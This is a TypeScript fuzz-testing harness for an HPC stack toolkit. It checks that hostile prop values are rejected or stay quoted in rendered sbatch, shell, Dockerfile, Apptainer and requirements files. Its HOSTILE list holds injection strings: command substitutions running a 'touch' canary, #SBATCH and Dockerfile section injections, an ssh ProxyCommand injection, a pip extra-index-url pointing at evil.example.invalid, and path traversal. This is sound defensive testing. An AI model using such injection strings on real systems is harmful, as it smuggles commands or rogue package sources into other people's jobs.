/**
 * The hostile-input harness: hostile strings, the run of one table case
 * (build, synth on the slurm profile and on local, then reject-with-a-path or
 * accept-and-stay-quoted), the structural checks of every rendered artifact
 * against a benign rendering, and the sampled real bash runs.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DockerfileParser } from 'dockerfile-ast';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import {
  App,
  ClusterProfile,
  Stack,
  Testing,
  ValidationError,
  renderParamsFile,
  type ClusterProfileProps,
  type SynthResult,
} from '../../lib/index.js';
import { decodeWord, lex, wordEnd } from './shell-lexer.js';

/** Where the canary payloads would create their files, were a value ever executed. */
export const CANARY_DIR = mkdtempSync(join(tmpdir(), 'hpcdk-canary-'));

/** A project folder for constructs that read it: a git repository (code bundles) holding files to copy (images). */
export const PROJECT_DIR = makeFuzzProject();

function makeFuzzProject(): string {
  const dir = mkdtempSync(join(tmpdir(), 'hpcdk-fuzz-project-'));
  mkdirSync(join(dir, 'src'));
  writeFileSync(join(dir, 'src', 'train.py'), 'print("train")\n');
  writeFileSync(join(dir, 'requirements.txt'), 'numpy==1.26.4\n');
  const env = {
    ...process.env,
    GIT_AUTHOR_NAME: 'fuzz',
    GIT_AUTHOR_EMAIL: 'fuzz@example.invalid',
    GIT_COMMITTER_NAME: 'fuzz',
    GIT_COMMITTER_EMAIL: 'fuzz@example.invalid',
  };
  execFileSync('git', ['init', '-q'], { cwd: dir, env });
  execFileSync('git', ['add', '.'], { cwd: dir, env });
  execFileSync('git', ['commit', '-qm', 'fuzz'], { cwd: dir, env });
  return dir;
}

export function cleanupFuzzDirs(): void {
  rmSync(CANARY_DIR, { recursive: true, force: true });
  rmSync(PROJECT_DIR, { recursive: true, force: true });
}

const touch = (n: number) => `touch ${CANARY_DIR}/PWNED_${n}`;

/** Hand-written hostile strings: substitutions, separators, broken quotes, directive and section injections, odd characters, NUL, long. */
export const HOSTILE: readonly string[] = [
  `$(${touch(1)})`,
  `\`${touch(2)}\``,
  `; ${touch(3)}`,
  `&& ${touch(4)}`,
  `| ${touch(5)}`,
  `'; ${touch(6)}; '`,
  `"; ${touch(7)}; "`,
  `'"\n${touch(8)}\n"'`,
  `\n${touch(9)}\n`,
  `\r${touch(10)}\r`,
  `x\r\n${touch(11)}`,
  `\\\n${touch(12)}`,
  `$'\\n'; ${touch(13)}`,
  `"$(${touch(14)})"`,
  `\${IFS}${touch(15)}`,
  `\n#SBATCH --time=99-00:00:00\n`,
  `\r#SBATCH --qos=high`,
  `x\n#SBATCH --partition=gpu`,
  `\n%setup\n${touch(16)}\n`,
  `\nBootstrap: docker\nFrom: evil:1\n`,
  `\nFROM evil:1\nRUN ${touch(17)}\n`,
  `<<EOF\n${touch(18)}\nEOF`,
  `-oProxyCommand=${touch(19)}`,
  'numpy==1.26.4; python_version == "3\n--extra-index-url=http://evil.example.invalid/ #"',
  'numpy==1.26.4; python_version == "3\u2028--extra-index-url=http://evil.example.invalid/ #"',
  `x\0${touch(20)}`,
  `'`,
  `"`,
  '\\',
  'x\\',
  ')',
  '(',
  '}',
  '{a,b}',
  '*',
  '?',
  '[a-z]',
  '~',
  '~root/x',
  '-rf',
  '--help',
  '$HOME',
  '${PATH}',
  '$((1+1))',
  '!!',
  '#',
  ' #x',
  '\t',
  ' ',
  '',
  '\u2028',
  '\u0085',
  '\u00a0',
  '名前 🚀',
  '\u202e',
  '\x1b[31m',
  '\0',
  'a\0b',
  'x'.repeat(100_000),
  "'".repeat(1000),
  '..',
  '../../etc/passwd',
  '/',
  '=',
  '%x-%j',
  '%setup',
  '__proto__',
  'constructor',
  'toString',
  '@',
  ',',
  ':',
];

/** Single characters that mean something to a shell, a directive or a file format. */
const SPECIAL = [...'\'"`$\\;&|<>(){}[]*?~#!% \t\n\r\0=,:@/-'];

// Built once: fast-check prepares string arbitraries at some cost.
const FRAGMENT = fc.oneof(
  fc.constantFrom(...HOSTILE.filter((h) => h.length < 200)),
  fc.constantFrom(...SPECIAL),
  fc.string({ unit: fc.constantFrom(...SPECIAL), minLength: 1, maxLength: 4 }),
);
const HOSTILE_ONE = fc.constantFrom(...HOSTILE);
const BINARY = fc.string({ unit: 'binary', maxLength: 30 });
const GRAPHEMES = fc.string({ unit: 'grapheme', maxLength: 30 });

/** Hostile values for a prop: the hand-written ones, arbitrary strings, and valid values with hostile fragments spliced in. */
export function hostileValues(valid: readonly string[]): fc.Arbitrary<string> {
  const spliced = fc.tuple(fc.constantFrom(...valid), FRAGMENT, fc.nat()).map(([base, bad, at]) => {
    const cut = at % (base.length + 1);
    return base.slice(0, cut) + bad + base.slice(cut);
  });
  return fc.oneof(
    { weight: 3, arbitrary: HOSTILE_ONE },
    { weight: 2, arbitrary: BINARY },
    { weight: 1, arbitrary: GRAPHEMES },
    { weight: 4, arbitrary: spliced },
    { weight: 1, arbitrary: fc.constantFrom(...valid) },
  );
}

/** Variables a probe expands: what `"${NAME}/…"` values are compared with. */
export const PROBE_ENV: Readonly<Record<string, string>> = {
  HOME: '/home/fuzz',
  HPCDK_STACK_DIR: '/stack',
  HPCDK_SCRATCH: '/scratch',
  SLURM_TMPDIR: '/node-local',
  TMPDIR: '/node-local',
  FUZZ_DIR: '/fuzz-dir',
};

/** The `RuntimeRef.env(name).join('d', v)` a probe sees: bash's view of `"${NAME}/d/…"`. */
export function joinedPath(variable: string, v: string): string {
  return [PROBE_ENV[variable], 'd', ...v.split('/').filter((s) => s !== '' && s !== '.')].join('/');
}

/** The slurm-profile target every case is also rendered for; profile rows layer their value over it. */
export const BASE_PROFILE: ClusterProfileProps = {
  scheduler: 'slurm',
  ssh: { host: 'fuzz-login', user: 'fuzzer' },
  account: 'def-fuzz',
  partitions: {
    cpu: { maxTime: '7-00:00:00', memPerNode: '512G', cpusPerNode: 64 },
    gpu: { maxTime: '2-00:00:00', gpus: { a100: 4 }, memPerNode: '512G', cpusPerNode: 48, gpuMemoryGb: { a100: 80 } },
  },
  modules: 'lmod',
  shellInit: ['/etc/profile.d/lmod.sh'],
  scratchVar: 'SLURM_TMPDIR',
  containerRuntime: 'none',
  env: { FUZZ_PROFILE: 'p' },
};

export const PROFILE_NAME = 'fuzzcluster';

/** Which file a probe reads and where the value's word starts in it. */
export interface Probe {
  readonly file: string;
  /** The text right before the word: its first occurrence (or the regexp's first match) ends where the word starts. */
  readonly anchor: string | RegExp;
  /** What the word must decode to; undefined skips the comparison for that value. @default the value */
  readonly expect?: (v: string) => string | undefined;
  /** Only on these targets (a module list is a comment on local). */
  readonly targets?: ReadonlyArray<'slurm' | 'local'>;
  /** The word is run by /bin/sh (a .def section), not bash. */
  readonly sh?: boolean;
}

/** One row of the table: a string prop of a construct, and how to build a minimal valid instance around a value. */
export interface Row {
  readonly family: string;
  /** The prop as a stack author writes it, e.g. `allocation.mem`. */
  readonly prop: string;
  /** The construct path a rejection must name, e.g. `fuzz/job`; `target:fuzzcluster` for profile props. */
  readonly at: string | ((v: string) => string);
  /** The field a rejection must name: exactly, or as a prefix before `.`/`[`. */
  readonly field: string | RegExp;
  /** Other places a rejection may name instead: where the value lands (a profile's default partition, checked at the job). */
  readonly orAt?: ReadonlyArray<readonly [string, string]>;
  /** Values that must be accepted; the first is the benign rendering hostile ones are compared with. */
  readonly valid: readonly string[];
  /** `value` (a literal: must stay quoted), `code` (shell the author writes: only its place is checked), `text` (file content, never shell). @default value */
  readonly kind?: 'value' | 'code' | 'text';
  /** Overrides of the slurm profile carrying the value (a profile prop). */
  readonly profile?: (v: string) => Partial<ClusterProfileProps>;
  /** The stack's name and description. @default fuzz, none */
  readonly stack?: (v: string) => { name?: string; description?: string };
  /** The slurm profile's name. @default fuzzcluster */
  readonly profileName?: (v: string) => string;
  /** Builds the constructs around the value in `stack`. */
  readonly build: (stack: Stack, v: string) => void;
  readonly probe?: Probe;
  /** Files rendered later by apply from the manifest (a sweep chunk's params file), checked like the rest. */
  readonly applyFiles?: (out: SynthResult) => Record<string, string>;
  /** A check of its own on an accepted value. */
  readonly accepted?: (v: string, out: SynthResult) => string | undefined;
  /** The value may be refused where it is passed (`Secret.fromEnv`, `RuntimeRef.env`, an empty id) with an error whose message matches. */
  readonly refusedAtCall?: RegExp;
  /** The value names the construct's folder: paths are compared with that segment put back to the valid value's. */
  readonly renames?: (v: string) => string;
  /** The shell structure and the set of files may differ from the benign value's (a default chosen from the value, a copied file). */
  readonly structureMayChange?: boolean;
  readonly runs?: number;
}

type Outcome = 'rejected' | 'refused-at-call' | 'accepted';

/** Counts for a file's figure line. */
export class Tally {
  public cases = 0;
  public failures = 0;
  public rejected = 0;
  public refusedAtCall = 0;
  public accepted = 0;
  public bashChecked = 0;
  public executed = 0;
  public readonly sampled: Sampled[] = [];

  public line(what: string): string {
    return (
      `${what}: ${this.cases} cases tried, ${this.failures} failures ` +
      `(${this.rejected} rejected with a path, ${this.refusedAtCall} refused by the call they were passed to, ${this.accepted} accepted and quoted; ` +
      `${this.bashChecked} rendered scripts checked with bash -n, ${this.executed} quoted values run in env -i bash)`
    );
  }
}

/** A rendered script kept for the batched `bash -n`. */
interface Sampled {
  readonly label: string;
  readonly script: string;
  /** For code props: the author's code, which must parse in place when it parses alone. */
  readonly code?: string;
}

const SHELL_KINDS = new Set(['script', 'sbatch', 'params']);
/** Every SAMPLE_EVERY-th accepted case has its scripts checked by bash -n; every EXEC_EVERY-th probed one is run. */
const SAMPLE_EVERY = 25;
const EXEC_EVERY = 25;

interface Rendering {
  readonly out: SynthResult;
  readonly files: Record<string, { content: string; kind: string }>;
}

function render(out: SynthResult, row: Row): Rendering {
  const files: Record<string, { content: string; kind: string }> = {};
  for (const a of out.artifacts) files[a.path] = { content: a.content, kind: a.kind };
  for (const [path, content] of Object.entries(row.applyFiles?.(out) ?? {})) files[path] = { content, kind: 'params' };
  return { out, files };
}

function fieldMatches(field: string, expected: string | RegExp): boolean {
  if (typeof expected !== 'string') return expected.test(field);
  return field === expected || field.startsWith(`${expected}.`) || field.startsWith(`${expected}[`);
}

interface Built {
  readonly stack: Stack;
  readonly profile: ClusterProfile;
}

/** The stack with the row's value in it, on the slurm profile (or the profile the value is part of). */
function build(row: Row, v: string): Built | { error: unknown } {
  try {
    const profile = new ClusterProfile(row.profileName?.(v) ?? PROFILE_NAME, {
      ...BASE_PROFILE,
      ...(row.profile?.(v) ?? {}),
    });
    const { name = 'fuzz', description } = row.stack?.(v) ?? {};
    const stack = new Stack(new App(), name, {
      targets: [profile],
      ...(description !== undefined ? { description } : {}),
    });
    row.build(stack, v);
    return { stack, profile };
  } catch (error) {
    return { error };
  }
}

function synth(built: Built, target: 'slurm' | 'local'): SynthResult | ValidationError {
  try {
    return Testing.synth(built.stack, {
      target: target === 'slurm' ? built.profile : 'local',
      projectDir: PROJECT_DIR,
    });
  } catch (error) {
    if (error instanceof ValidationError) return error;
    throw error;
  }
}

const benignCache = new Map<Row, Record<'slurm' | 'local', Rendering>>();

/** The row's first valid value rendered on both targets: what hostile renderings must keep the shape of. */
export function benign(row: Row): Record<'slurm' | 'local', Rendering> {
  const cached = benignCache.get(row);
  if (cached) return cached;
  const built = build(row, row.valid[0]!);
  if ('error' in built)
    throw new Error(
      `${row.family} ${row.prop}: the valid value ${JSON.stringify(row.valid[0])} is refused: ${String(built.error)}`,
    );
  const result = {} as Record<'slurm' | 'local', Rendering>;
  for (const target of ['slurm', 'local'] as const) {
    const out = synth(built, target);
    if (out instanceof ValidationError)
      throw new Error(
        `${row.family} ${row.prop}: the valid value ${JSON.stringify(row.valid[0])} is refused on ${target}: ${out.message}`,
      );
    result[target] = render(out, row);
  }
  benignCache.set(row, result);
  return result;
}

function checkRejection(row: Row, v: string, error: ValidationError): string | undefined {
  const at = typeof row.at === 'string' ? row.at : row.at(v);
  const places: Array<readonly [string, string | RegExp]> = [[at, row.field], ...(row.orAt ?? [])];
  if (!error.issues.some((i) => places.some(([path, field]) => i.path === path && fieldMatches(i.field, field)))) {
    return `rejected without naming [${at}] ${String(row.field)}: ${error.message.slice(0, 600)}`;
  }
  const unnamed = error.issues.find(
    (i) => i.path === '' || !error.message.includes(`[${i.path}] ${i.field === '' ? '' : `${i.field}:`}`),
  );
  if (unnamed) return `an issue is not reported as [path] field: ${JSON.stringify(unnamed).slice(0, 300)}`;
  return undefined;
}

/** Runs one case; returns what happened, or throws with what is wrong. */
export function runCase(row: Row, v: string, tally: Tally): Outcome {
  const base = benign(row);
  tally.cases += 1;
  try {
    const outcome = runChecked(row, v, base, tally);
    if (outcome === 'rejected') tally.rejected += 1;
    else if (outcome === 'refused-at-call') tally.refusedAtCall += 1;
    else tally.accepted += 1;
    return outcome;
  } catch (error) {
    tally.failures += 1;
    throw error;
  }
}

function fail(row: Row, v: string, target: string, problem: string): never {
  throw new Error(
    `${row.family} ${row.prop} = ${JSON.stringify(v.length > 200 ? `${v.slice(0, 200)}…` : v)} on ${target}: ${problem}`,
  );
}

function runChecked(row: Row, v: string, base: Record<'slurm' | 'local', Rendering>, tally: Tally): Outcome {
  const built = build(row, v);
  if ('error' in built) {
    const error = built.error;
    if (error instanceof ValidationError) {
      const problem = checkRejection(row, v, error);
      if (problem) fail(row, v, 'construction', problem);
      return 'rejected';
    }
    if (row.refusedAtCall && error instanceof Error && row.refusedAtCall.test(error.message)) return 'refused-at-call';
    fail(row, v, 'construction', `threw something other than a ValidationError: ${String(error).slice(0, 400)}`);
  }
  let accepted = false;
  for (const target of ['slurm', 'local'] as const) {
    const out = synth(built, target);
    if (out instanceof ValidationError) {
      const problem = checkRejection(row, v, out);
      if (problem) fail(row, v, target, problem);
      continue;
    }
    accepted = true;
    const problem = checkAccepted(row, v, render(out, row), base[target], target, tally);
    if (problem) fail(row, v, target, problem);
  }
  if (!accepted) return 'rejected';
  if (v.includes('\0')) fail(row, v, 'both', 'a NUL was accepted');
  return 'accepted';
}

/** `#SBATCH` lines sbatch reads: those before the first line that is not a comment or blank. */
function directiveBlock(script: string): string[] {
  const out: string[] = [];
  for (const line of script.split('\n').slice(1)) {
    if (line.trim() === '') continue;
    if (!line.startsWith('#')) break;
    if (/^#SBATCH/.test(line)) out.push(line);
  }
  return out;
}

const DIRECTIVE = /^#SBATCH --([a-z][a-z0-9-]*)(?:=(?:[A-Za-z0-9_@%+=:,./-]+|'[^'\n]*'))?$/;

/** The directives sbatch reads are well formed, and name the options the valid value's script names (an option named by the value counts as the valid one). */
function checkSbatch(script: string, benignScript: string, v: string, valid: string): string | undefined {
  const block = directiveBlock(script);
  const bad = block.find((l) => !DIRECTIVE.test(l));
  if (bad !== undefined) return `a malformed directive line: ${JSON.stringify(bad)}`;
  const names = block
    .map((l) => DIRECTIVE.exec(l)![1]!)
    .map((n) => (n === v ? valid : n))
    .sort()
    .join(' ');
  const expected = directiveBlock(benignScript)
    .map((l) => DIRECTIVE.exec(l)![1]!)
    .sort()
    .join(' ');
  if (names !== expected) return `directives ${names} where the renderer emits ${expected}`;
  return undefined;
}

/** Apptainer starts a section at any line whose first word starts with %, and a stage at a line starting with bootstrap:. */
function defStructure(def: string): string {
  return def
    .split('\n')
    .filter((l) => /^\s*%/.test(l) || /^bootstrap:/i.test(l))
    .map((l) => l.trim().split(/\s+/)[0])
    .join(' ');
}

function dockerfileStructure(text: string): string {
  return DockerfileParser.parse(text)
    .getInstructions()
    .map((i) => i.getKeyword())
    .join(' ');
}

function yamlShape(text: string): string {
  const doc = parseYaml(text) as Record<string, unknown>;
  return JSON.stringify(doc, (_k, value) => (typeof value === 'string' ? 's' : value));
}

/** Requirement lines as pip reads them: it splits with Python's str.splitlines(). */
function requirementLines(text: string): number {
  return text.split(/\r\n|[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]/).filter((l) => l.trim() !== '' && !l.startsWith('#'))
    .length;
}

/** The valid value's renderings are compared with thousands of times: their structure is worked out once. */
const structures = new Map<string, string>();
function cached(kind: string, content: string, compute: (text: string) => string): string {
  const key = `${kind}\0${content}`;
  let value = structures.get(key);
  if (value === undefined) {
    value = compute(content);
    structures.set(key, value);
  }
  return value;
}

function checkAccepted(
  row: Row,
  v: string,
  rendering: Rendering,
  base: Rendering,
  target: 'slurm' | 'local',
  tally: Tally,
): string | undefined {
  const code = row.kind === 'code';
  const [named, validName] = row.renames ? [row.renames(v), row.renames(row.valid[0]!)] : ['', ''];
  const asValid = (p: string) =>
    row.renames
      ? p
          .split('/')
          .map((segment) => (segment === named ? validName : segment))
          .join('/')
      : p;
  const paths = Object.keys(rendering.files).map(asValid).sort().join(' ');
  const basePaths = Object.keys(base.files).sort().join(' ');
  if (paths !== basePaths && row.kind !== 'text' && !row.structureMayChange)
    return `renders files ${paths} where the valid value renders ${basePaths}`;
  for (const [path, { content, kind }] of Object.entries(rendering.files)) {
    // Snapshot paths become paths on the target too.
    if (path.split('/').some((segment) => segment === '' || segment === '.' || segment === '..'))
      return `renders ${JSON.stringify(path)}, outside its folder`;
    const was = base.files[asValid(path)]?.content;
    // A file the value did not change is the valid value's: nothing to check.
    if (content === was) continue;
    if (content.includes('\0')) return `${path} holds a NUL`;
    if (kind === 'sbatch') {
      const problem = checkSbatch(content, was ?? '', v, row.valid[0]!);
      if (problem) return `${path}: ${problem}`;
    }
    // A file's content is the author's, shell or not.
    if (row.kind === 'text' && (kind === 'file' || kind === 'script')) continue;
    if (SHELL_KINDS.has(kind)) {
      const lexed = lex(content);
      if (!code) {
        if (lexed.unbalanced) return `${path} ends inside ${lexed.unbalanced}`;
        for (let at = content.indexOf('PWNED_'); at >= 0; at = content.indexOf('PWNED_', at + 1)) {
          if (lexed.live[at])
            return `${path}: the canary is live shell at ${JSON.stringify(content.slice(Math.max(0, at - 60), at + 10))}`;
        }
        const expected = cached('skeleton', was ?? '', (text) => lex(text).skeleton);
        if (!row.structureMayChange && lexed.skeleton !== expected)
          return `${path}: the shell structure differs from the valid value's\n${diffLine(expected, lexed.skeleton)}`;
      }
    }
    if (code) continue;
    const shapes: Record<string, (text: string) => string> = {
      'apptainer-def': defStructure,
      dockerfile: dockerfileStructure,
      'environment-yml': yamlShape,
      requirements: (text) => `${requirementLines(text)} requirement lines`,
    };
    const shape = shapes[kind];
    if (shape) {
      const [got, expected] = [shape(content), cached(kind, was ?? '', shape)];
      if (got !== expected) return `${path}: ${got} where the valid value's has ${expected}`;
    }
  }
  const probed = probeWord(row, v, rendering, target);
  if (typeof probed === 'string') return probed;
  const own = row.accepted?.(v, rendering.out);
  if (own) return own;
  sample(row, v, rendering, base, probed, tally);
  return undefined;
}

function diffLine(a: string, b: string): string {
  let i = 0;
  while (i < a.length && a[i] === b[i]) i += 1;
  return `  valid:   …${a.slice(Math.max(0, i - 40), i + 40)}\n  hostile: …${b.slice(Math.max(0, i - 40), i + 40)}`;
}

interface ProbeResult {
  readonly raw: string;
  readonly expected: string;
  readonly sh: boolean;
}

/** Finds the value's word where the probe says, and decodes it as bash would; returns a problem, or the word for a real run. */
function probeWord(
  row: Row,
  v: string,
  rendering: Rendering,
  target: 'slurm' | 'local',
): string | ProbeResult | undefined {
  const probe = row.probe;
  if (!probe || (probe.targets && !probe.targets.includes(target))) return undefined;
  const expected = probe.expect ? probe.expect(v) : v;
  if (expected === undefined) return undefined;
  const content = rendering.files[probe.file]?.content;
  if (content === undefined) return `no file ${probe.file} to probe`;
  let start: number;
  if (typeof probe.anchor === 'string') {
    const at = content.indexOf(probe.anchor);
    start = at < 0 ? -1 : at + probe.anchor.length;
  } else {
    const m = probe.anchor.exec(content);
    start = m ? m.index + m[0].length : -1;
  }
  if (start < 0) return `${probe.file}: the anchor ${String(probe.anchor)} is missing`;
  const raw = content.slice(start, wordEnd(content, start));
  let decoded: string;
  try {
    decoded = decodeWord(raw, PROBE_ENV);
  } catch (error) {
    return `${probe.file}: the word ${JSON.stringify(raw.slice(0, 120))} is not a literal: ${(error as Error).message}`;
  }
  if (decoded !== expected)
    return `${probe.file}: the word decodes to ${JSON.stringify(decoded.slice(0, 200))}, not ${JSON.stringify(expected.slice(0, 200))}`;
  return { raw, expected, sh: probe.sh ?? false };
}

let acceptedSeen = 0;
let probedSeen = 0;

/** Keeps some accepted cases' scripts for bash -n, and runs some probed words for real. */
function sample(
  row: Row,
  v: string,
  rendering: Rendering,
  base: Rendering,
  probed: ProbeResult | undefined,
  tally: Tally,
): void {
  acceptedSeen += 1;
  if (acceptedSeen % SAMPLE_EVERY === 0) {
    for (const [path, { content, kind }] of Object.entries(rendering.files)) {
      // The scripts the value changed (the valid value's parse: they are checked once, as its own case).
      if (!SHELL_KINDS.has(kind) || (row.kind === 'text' && kind === 'script') || content === base.files[path]?.content)
        continue;
      tally.sampled.push({
        label: `${row.family} ${row.prop} = ${JSON.stringify(v.slice(0, 120))}: ${path}`,
        script: content,
        ...(row.kind === 'code' ? { code: v } : {}),
      });
    }
  }
  if (probed === undefined) return;
  probedSeen += 1;
  if (probedSeen % EXEC_EVERY !== 0) return;
  tally.executed += 1;
  const problem = runWord(probed);
  if (problem)
    throw new Error(`${row.family} ${row.prop} = ${JSON.stringify(v.slice(0, 200))}: run for real: ${problem}`);
}

/** Runs `printf '%s\0' WORD` in `env -i` bash (or sh) in the canary folder; the word must print the exact value and create nothing. */
function runWord(p: ProbeResult): string | undefined {
  const script = `printf '%s\\0' ${p.raw}\n`;
  const r = spawnSync(
    'env',
    [
      '-i',
      `PATH=${process.env.PATH ?? '/usr/bin:/bin'}`,
      ...Object.entries(PROBE_ENV).map(([k, val]) => `${k}=${val}`),
      p.sh ? 'sh' : 'bash',
      '-c',
      script,
    ],
    {
      cwd: CANARY_DIR,
      encoding: 'utf8',
      maxBuffer: 1 << 24,
    },
  );
  const pwned = readdirSync(CANARY_DIR).filter((f) => f.startsWith('PWNED'));
  if (pwned.length > 0) return `created ${pwned.join(', ')}`;
  if (r.status !== 0) return `exit ${r.status}: ${r.stderr.slice(0, 300)}`;
  const printed = r.stdout.split('\0').slice(0, -1);
  if (printed.length !== 1 || printed[0] !== p.expected) return `printed ${JSON.stringify(printed).slice(0, 300)}`;
  return undefined;
}

/**
 * Checks the sampled scripts with one bash process: each must pass `bash -n`
 * (code props: whenever the author's code parses alone). Returns the failures.
 */
export function bashCheckSampled(tally: Tally): string[] {
  const dir = mkdtempSync(join(tmpdir(), 'hpcdk-bash-n-'));
  try {
    const files: string[] = [];
    tally.sampled.forEach((s, i) => {
      writeFileSync(join(dir, `${i}.sh`), s.script);
      files.push(`${i}.sh`);
      if (s.code !== undefined) {
        writeFileSync(join(dir, `${i}.code.sh`), s.code);
        files.push(`${i}.code.sh`);
      }
    });
    const r = spawnSync(
      'bash',
      ['-c', 'for f in "$@"; do bash -n "$f" 2>/dev/null || echo "$f"; done', 'check', ...files],
      { cwd: dir, encoding: 'utf8', maxBuffer: 1 << 24 },
    );
    if (r.status !== 0) return [`the bash -n loop failed: ${r.stderr}`];
    const failed = new Set(r.stdout.split('\n').filter((l) => l !== ''));
    tally.bashChecked += tally.sampled.length;
    const problems: string[] = [];
    tally.sampled.forEach((s, i) => {
      const codeParses = s.code === undefined || !failed.has(`${i}.code.sh`);
      if (failed.has(`${i}.sh`) && codeParses) {
        const why = spawnSync('bash', ['-n', join(dir, `${i}.sh`)], { encoding: 'utf8' }).stderr;
        problems.push(`${s.label}: bash -n: ${why.trim().slice(0, 300)}`);
      }
    });
    const pwned = readdirSync(CANARY_DIR).filter((f) => f.startsWith('PWNED'));
    if (pwned.length > 0) problems.push(`canary files appeared: ${pwned.join(', ')}`);
    tally.failures += problems.length;
    return problems;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The params file apply writes for a sweep's single chunk, from the manifest's points. */
export function sweepParamsFile(address: string) {
  return (out: SynthResult): Record<string, string> => {
    const points = out.resources
      .filter((r) => r.kind === 'sweep-point')
      .map((r, index) => ({
        index,
        identity: r.identity,
        address: r.address,
        key: String(r.spec.key),
        params: r.spec.params as Record<string, string | number | boolean>,
      }));
    return { [`${address}/params.sh`]: renderParamsFile(address, 'c0', points) };
  };
}

/** Hostile values tried per row unless the row says otherwise. */
export const RUNS_PER_ROW = 70;

/**
 * Registers the suite for `rows`: one property per row (fast-check prints its
 * seed on failure), then the batched `bash -n` of the sampled scripts, then
 * the figure line.
 */
export function fuzzRows(what: string, rows: readonly Row[]): void {
  const tally = new Tally();
  afterAll(() => {
    console.log(tally.line(what));
    cleanupFuzzDirs();
  });
  describe(what, () => {
    for (const row of rows) {
      it(`${row.family} ${row.prop}: rejected with its path and field, or accepted and kept literal`, () => {
        fc.assert(
          fc.property(hostileValues(row.valid), (v) => {
            runCase(row, v, tally);
          }),
          { numRuns: row.runs ?? RUNS_PER_ROW, examples: row.valid.map((v) => [v] as [string]) },
        );
      });
    }
    it('the sampled rendered scripts parse with bash -n, and no canary ran', () => {
      expect(tally.sampled.length).toBeGreaterThan(0);
      expect(bashCheckSampled(tally)).toEqual([]);
    });
  });
}
